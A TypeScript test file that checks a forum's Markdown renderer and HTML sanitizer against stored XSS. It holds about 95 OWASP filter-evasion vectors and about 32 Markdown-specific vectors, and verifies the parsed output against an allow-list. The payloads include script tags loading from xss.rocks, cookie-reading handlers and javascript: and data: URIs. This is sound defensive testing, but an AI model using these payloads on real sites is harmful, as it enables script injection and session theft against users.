// Stored XSS: the vectors of the OWASP XSS Filter Evasion Cheat Sheet, and Markdown's own (link destinations, image
// sources, info strings, link titles), rendered as post bodies. The HTML is parsed as a browser would (parse5, the
// WHATWG algorithm) and every element and attribute is checked against what a post may hold; no string search.
// The sanitizer alone gets the same corpus as raw HTML: the second line must hold even if the first one failed.
import { parseFragment, type DefaultTreeAdapterMap } from 'parse5';
import { describe, expect, it } from 'vitest';
import { renderPost } from '../../src/render/render.js';
import { sanitize } from '../../src/render/sanitize.js';

type Node = DefaultTreeAdapterMap['childNode'];
type Element = DefaultTreeAdapterMap['element'];

/** The OWASP cheat sheet's vectors (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html). */
const owasp = [
  `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"\`/+/onmouseover=1/+/[*/[]/+alert(42);//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<SCRIPT SRC=//xss.rocks/.j>`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `\\";alert('XSS');//`,
  `</script><script>alert('XSS');</script>`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<IMG SRC="livescript:[code]">`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
  `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
  `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `exp/*<A STYLE='no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))'>`,
  `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
  `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
  `<XSS STYLE="xss:expression(alert('XSS'))">`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<SCRIPT SRC="http://xss.rocks/xss.jpg"></SCRIPT>`,
  `<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=http://xss.rocks/xss.js></SCRIPT>'"-->`,
  `<? echo('<SCR)';echo('IPT>alert("XSS")</SCRIPT>'); ?>`,
  `<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-`,
  `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  `<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>`,
  `<svg><script>alert(1)</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<form><button formaction=javascript:alert(1)>X</button></form>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror="alert(1)">`,
  `<a href="&#0000106;&#0000097;vascript:alert(1)">x</a>`,
];

/** Markdown's own ways to a script: destinations, sources, info strings, titles, mentions next to markup. */
const markdown = [
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](javascript&#58;alert(1))',
  '[a](&#x6A;avascript:alert(1))',
  '[a](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
  '[a](<javascript:alert(1)>)',
  '[a](java\\script:alert(1))',
  '[a](  javascript:alert(1)  )',
  '[a][x]\n\n[x]: javascript:alert(1)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<vbscript:msgbox(1)>',
  '![a](javascript:alert(1))',
  '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![a](data:image/png;base64,iVBORw0KGgo=)',
  '![a](https://x.org/a.png"onerror="alert(1))',
  '![a" onerror="alert(1)](https://x.org/a.png)',
  '[a](https://x.org "t\\" onmouseover=\\"alert(1)")',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](file:///etc/passwd)',
  '```"><script>alert(1)</script>\ncode\n```',
  '```js onclick=alert(1) style=x\ncode\n```',
  '@alice"><script>alert(1)</script>',
  '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |',
  '*<img src=x onerror=alert(1)>*',
  'http://x.org/"><script>alert(1)</script>',
  'www.x.org/"onmouseover="alert(1)',
  '[![a](https://x.org/a.png)](javascript:alert(1))',
  '<https://x.org/" onmouseover="alert(1)>',
  '[a](//evil.example/x) and ![b](//evil.example/b.png)',
  '<a href="https://x.org">raw link</a> [*md*](https://x.org)',
];

const ELEMENTS: Record<string, Set<string>> = {
  p: new Set(), br: new Set(), hr: new Set(), h1: new Set(), h2: new Set(), h3: new Set(), h4: new Set(), h5: new Set(),
  h6: new Set(), blockquote: new Set(), pre: new Set(), code: new Set(['class']), em: new Set(), strong: new Set(),
  s: new Set(), ul: new Set(), ol: new Set(['start']), li: new Set(), a: new Set(['href', 'title', 'rel', 'class']),
  img: new Set(['src', 'alt', 'title']), table: new Set(), thead: new Set(), tbody: new Set(), tr: new Set(),
  th: new Set(['align']), td: new Set(['align']),
};

/** How a browser reads a URL's scheme: leading C0 controls and spaces dropped, tabs and newlines removed anywhere. */
function schemeOf(url: string): string | null {
  // eslint-disable-next-line no-control-regex
  const cleaned = url.replace(/^[\u0000-\u0020]+/, '').replace(/[\t\n\r]/g, '');
  const match = /^([a-z][a-z0-9+.-]*):/i.exec(cleaned);
  return match ? match[1]!.toLowerCase() : null;
}

/** Every problem a browser would have with this HTML, as sentences (empty: safe). */
function problemsOf(html: string): string[] {
  const problems: string[] = [];
  const visit = (node: Node) => {
    if (!('tagName' in node)) return;
    const element = node as Element;
    const allowed = ELEMENTS[element.tagName];
    if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') problems.push(`foreign element <${element.tagName}>`);
    if (!allowed) problems.push(`element <${element.tagName}>`);
    for (const { name, value } of element.attrs) {
      if (!allowed?.has(name)) problems.push(`attribute ${name} on <${element.tagName}>`);
      if (name === 'href') {
        const scheme = schemeOf(value);
        if (scheme !== null && !['http', 'https', 'mailto'].includes(scheme)) problems.push(`href scheme ${scheme}:`);
        if (value.trim().startsWith('//')) problems.push(`protocol-relative href ${value}`);
      }
      if (name === 'src' && schemeOf(value) !== 'https') problems.push(`img src not over https: ${value}`);
      if (name === 'class' && !value.split(/\s+/).every((c) => c === 'mention' || /^language-[^\s]+$/.test(c))) {
        problems.push(`class ${value}`);
      }
    }
    if (element.tagName === 'a' && element.attrs.find((a) => a.name === 'rel')?.value !== 'nofollow ugc noopener') {
      problems.push('a link without rel="nofollow ugc noopener"');
    }
    element.childNodes.forEach(visit);
  };
  parseFragment(html).childNodes.forEach(visit);
  return problems;
}

describe('the XSS corpus', () => {
  it('holds more than 50 vectors of the OWASP cheat sheet, and Markdown vectors besides', () => {
    expect(new Set(owasp).size).toBeGreaterThanOrEqual(50);
    expect(new Set(markdown).size).toBeGreaterThanOrEqual(30);
  });

  it('the checker is able to find each kind of problem (it is not vacuous)', () => {
    expect(problemsOf('<script>x</script>')).toContain('element <script>');
    expect(problemsOf('<img src="x" onerror="y">')).toEqual(expect.arrayContaining(['attribute onerror on <img>', 'img src not over https: x']));
    expect(problemsOf('<a href=" java\tscript:x" rel="nofollow ugc noopener">x</a>')).toContain('href scheme javascript:');
    expect(problemsOf('<p style="x">y</p>')).toContain('attribute style on <p>');
    expect(problemsOf('<svg><a href="https://x.org" rel="nofollow ugc noopener">x</a></svg>')).toContain('element <svg>');
    expect(problemsOf('<a href="https://x.org">x</a>')).toContain('a link without rel="nofollow ugc noopener"');
    expect(problemsOf('<p><a href="/u/x" class="mention" rel="nofollow ugc noopener">@x</a></p>')).toEqual([]);
  });

  it.each([...owasp, ...markdown])('rendered as a post, %s leaves nothing executable', (vector) => {
    const { html } = renderPost(vector, new Map([['alice', { id: 1, username: 'alice' }]]));
    expect(problemsOf(html)).toEqual([]);
  });

  it.each(owasp)('raw HTML shows as text: %s', (vector) => {
    const { html } = renderPost(vector);
    const fragment = parseFragment(html);
    const elements: string[] = [];
    const walk = (node: Node) => {
      if ('tagName' in node) {
        elements.push((node as Element).tagName);
        (node as Element).childNodes.forEach(walk);
      }
    };
    fragment.childNodes.forEach(walk);
    // Markdown itself makes only paragraphs, code and links of these one-line vectors: no tag written in them survives.
    expect(elements.every((tag) => ['p', 'a', 'code', 'em', 'br', 'pre', 'h1', 'h2', 'table', 'thead', 'tbody', 'tr', 'th', 'td'].includes(tag))).toBe(true);
  });

  it.each(owasp)('the sanitizer alone, given it as raw HTML, leaves nothing executable: %s', (vector) => {
    expect(problemsOf(sanitize(vector))).toEqual([]);
  });
});
